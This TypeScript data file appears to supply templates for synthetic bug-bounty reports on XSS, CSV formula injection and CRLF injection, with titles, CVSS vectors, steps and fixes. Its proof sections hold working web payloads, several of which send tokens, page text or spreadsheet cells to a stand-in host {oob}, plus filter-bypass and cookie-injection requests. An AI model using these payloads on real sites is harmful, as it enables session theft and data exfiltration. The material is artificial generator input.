import { fenced } from "../fenced.ts";
import type { WriteUp } from "../shapes.ts";

/** Input that comes back as markup, a header or a formula. */
export const markupWriteUps: readonly WriteUp[] = [
  {
    key: "stored-xss",
    cwe: 79,
    kinds: ["text"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N",
      "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:H/I:H/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:P/VC:L/VI:L/VA:N/SC:H/SI:H/SA:N",
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
    ],
    titles: [
      "Stored XSS through the {feature} on {host}",
      "{feature}: HTML in `{param}` runs in the browser of whoever opens it",
      "`<svg onload>` survives the filter of the {feature} and executes for staff",
      "Persistent cross-site scripting in {param} ({path})",
    ],
    summaries: [
      "The {feature} accepts HTML in the field `{param}`. It is stored as sent and later written into the page without escaping, so a script that I put there runs for everybody who looks at it.",
      "While looking at how {product} shows the {feature}, I saw that `<` comes back as `<` and not as `&lt;`. From there to a working script it was two attempts: the filter drops `<script>` but knows nothing of `<svg>`.",
      "A user with the lowest role can leave JavaScript in the {feature}. It fires in the session of the next colleague who opens the page; no click is needed beyond that.",
    ],
    details: [
      "The value passes a deny-list on the way in (`script`, `iframe`, `onerror`) and nothing on the way out. `onbegin` of an SVG animation is not on that list. The page sends no Content-Security-Policy that would stop inline handlers.",
      "The front end renders the field with something like `innerHTML`: the same text is escaped correctly in the list view, only the detail view is affected. The session cookie is `HttpOnly`, but the page keeps the access token in `localStorage`, which the script can read.",
      "Escaping happens when the text is *saved through the form*. A direct call to `{path}` skips it, and the renderer trusts what is in the database.",
    ],
    proofs: [
      fenced(
        "http",
        "POST {path} HTTP/1.1",
        "Host: {host}",
        "Content-Type: application/json",
        "",
        '{"{param}": "<svg><animate onbegin=fetch(`https://{oob}/?t=`+localStorage.token) attributeName=x dur=1s>"}',
      ),
      fenced(
        "html",
        '<img src=x onerror="fetch(`https://{oob}/`, {method: `POST`, body: document.body.innerText})">',
        "<script>alert(document.domain)</script>",
      ),
    ],
    steps: [
      [
        "Sign in to {product} as an ordinary user (mine is `{me}`).",
        "Open the {feature} and save the payload above in `{param}`.",
        "Sign in as a second user with more rights, in another browser.",
        "Open the page that shows the {feature}.",
        "The request with the token arrives at `{oob}`.",
      ],
      [
        "Send the request above with a valid session.",
        "Open `https://{host}{path}` as anybody else.",
        "Watch the dialog with `{host}` in it.",
      ],
    ],
    impacts: [
      "The script acts as the person who opens the page: it can read everything they can and send any request, including those that change the mail address of the account. With one clerk who opens it in the morning, the whole desk is lost by lunch.",
      "Session tokens can be stolen, and from there accounts. Since the text is shown to staff, the attacker gains a higher role.",
      "An attacker can read and change data in the name of the victim on {host}. I did not go further than reading the title of the page in my own second account.",
    ],
    fixes: [
      "Escape on output, in the template, not on input. A strict Content-Security-Policy would have turned this into a nuisance.",
      "Render the field as text (`textContent`), or run it through a sanitiser with an allow-list if markup is wanted.",
    ],
  },
  {
    key: "reflected-xss",
    cwe: 79,
    kinds: ["search", "page"],
    vectors: [
      "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
      "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:L/VI:L/VA:N/SC:L/SI:L/SA:N",
      "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:C/C:L/I:L/A:N",
    ],
    titles: [
      "Reflected XSS in `{param}` of the {feature}",
      "The {feature} on {host} echoes {param} into a script block",
      "XSS: `{param}` breaks out of an attribute at {path}",
    ],
    summaries: [
      "The parameter `{param}` of `{path}` comes back inside a JavaScript string of the page. Quotes are escaped, `</script>` is not, so the block can be closed early and a new one opened.",
      "A link to the {feature} can carry a script that runs on {host} when somebody follows it.",
      "When the {feature} finds nothing, it repeats what was asked for. The repetition is escaped for HTML but lands in an unquoted attribute, where a space is enough to start a new one.",
    ],
    details: [
      "Only the empty result is affected, which is perhaps why tests did not see it. Every value that matches nothing gets there.",
      "The firewall in front blocks the word `alert` and round brackets. Template strings call functions without brackets, and a tagged template is all it takes.",
    ],
    proofs: [
      fenced("text", "https://{host}{path}?{param}=zzz%3C/script%3E%3Cscript%3Eimport(`//{oob}/a.js`)%3C/script%3E"),
      fenced("text", "https://{host}{path}?{param}=x%20autofocus%20tabindex=1%20onfocus=setTimeout`fetch\\x28'//{oob}'\\x29`"),
    ],
    steps: [
      [
        "Be signed in to {product} in {browser}.",
        "Open the link above.",
        "No interaction is needed: the script loads from `{oob}` and shows the current user's name.",
      ],
      ["Paste the address into {browser}.", "Press Enter.", "Look at the network tab: one request leaves for `{oob}`."],
    ],
    impacts: [
      "Whoever follows the link gives the attacker their session on {host} for as long as the page is open.",
      "Phishing on your own address, with your own certificate, or actions in the name of the victim. One click is needed, so I would call it medium.",
    ],
    fixes: [
      'Encode for the place where the value lands; JSON in a `<script type="application/json">` block is the least fragile.',
      "Do not repeat the query on the empty page at all.",
    ],
  },
  {
    key: "dom-xss",
    cwe: 79,
    kinds: ["page"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:H/I:L/A:N", "CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:H/VI:L/VA:N/SC:L/SI:L/SA:N"],
    titles: [
      "DOM XSS in the {feature}: message listener trusts every origin",
      "postMessage handler on {host}{path} writes `{param}` to innerHTML",
      "{feature} evaluates data from any window that frames or opens it",
    ],
    summaries: [
      "The {feature} listens for messages of other windows and does not look at who sent them. One of the message types puts its text into the page as HTML.",
      "`https://{host}{path}` has a `message` listener for the embedded mode. It is active in the normal mode, too, and takes orders from everybody.",
    ],
    details: [
      "The check that is there compares `event.origin.indexOf('{host}') > -1`, so `https://{host}.{oob}` passes as well.",
      "In the bundle the handler is called `onHostMessage`; type `banner` sets `el.innerHTML = event.data.{param}`. The page has no `frame-ancestors`, so it can be framed, and even if it could not, `window.open` gives the same reference.",
    ],
    proofs: [
      fenced(
        "html",
        "<script>",
        "  const w = window.open('https://{host}{path}');",
        "  setInterval(() => w.postMessage({ type: 'banner', {param}: '<img src=x onerror=alert(origin)>' }, '*'), 500);",
        "</script>",
      ),
    ],
    steps: [
      [
        "Save the page above as `poc.html` and serve it from any other origin.",
        "Sign in to {product} in the same browser.",
        "Open `poc.html` and allow the pop-up.",
        "After half a second the dialog shows `https://{host}`.",
      ],
    ],
    impacts: [
      "Full control of the victim's session while the window is open, from any site they visit.",
      "Any site can run script on {host} as the signed-in user. The {feature} is where the sensitive settings live, so this includes changing them.",
    ],
    fixes: ["Compare `event.origin` with an exact list, and never assign message data to `innerHTML`."],
  },
  {
    key: "csv-injection",
    cwe: 74,
    kinds: ["export"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:U/C:L/I:L/A:N", "CVSS:3.1/AV:L/AC:L/PR:L/UI:R/S:U/C:L/I:L/A:L"],
    titles: [
      "Formula injection in the {feature}",
      "Cells that start with `=` leave {product} unescaped ({path})",
      "CSV of the {feature} runs formulas of strangers in the accountant's spreadsheet",
    ],
    summaries: [
      "Values in the {feature} that begin with `=`, `+`, `-` or `@` are written as they are. Spreadsheet programs take them for formulas.",
      "Somebody outside can choose a name that becomes a formula when an employee opens the {feature}.",
    ],
    details: [
      "The column `{param}` is free text that customers fill in. LibreOffice asks before it loads the link, Excel does so only for external files, and not at all for `HYPERLINK`.",
    ],
    proofs: [fenced("csv", "id,{param},amount", '{id},"=HYPERLINK(""https://{oob}/?""&A1&B1,""Details"")",12.00')],
    steps: [
      ["Set `{param}` to `=1+1`.", "Download the {feature} as another user.", "Open it in a spreadsheet: the cell shows 2."],
    ],
    impacts: [
      "Data of the sheet leaves with one click, and older set-ups may run commands. It needs a person who opens the file.",
      "An employee with many rights opens content of somebody with none.",
    ],
    fixes: ["Put an apostrophe before such values or write them with a leading tab, as the field has agreed."],
  },
  {
    key: "crlf",
    cwe: 93,
    kinds: ["page", "site", "subdomain"],
    vectors: ["CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N", "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:N/I:L/A:N"],
    titles: ["CRLF injection: `%0d%0a` in `{param}` sets headers on {host}", "Response splitting at {path} through the redirect"],
    summaries: [
      "`{path}` copies `{param}` into the `Location` header and decodes it once too often. A double-encoded line break ends the header and starts mine.",
      "I can add headers, and after two line breaks a body, to the answer of {host}.",
    ],
    details: ["One level of encoding is refused, two pass: `%250d%250a`. The proxy in front does not mind."],
    proofs: [
      fenced(
        "http",
        "GET {path}?{param}=/%250d%250aSet-Cookie:%20sid=attacker%3B%20Path=/ HTTP/1.1",
        "Host: {host}",
        "",
        "HTTP/1.1 302 Found",
        "Location: /",
        "Set-Cookie: sid=attacker; Path=/",
      ),
    ],
    steps: [["Request the address above with curl and `-i`.", "See the cookie that I chose in the answer."]],
    impacts: [
      "Sessions can be fixed, and with a body a script runs on {host}.",
      "Cookies for the whole domain can be planted; together with the login this is session fixation.",
    ],
    fixes: ["Refuse control characters in header values after the last decoding."],
  },
];
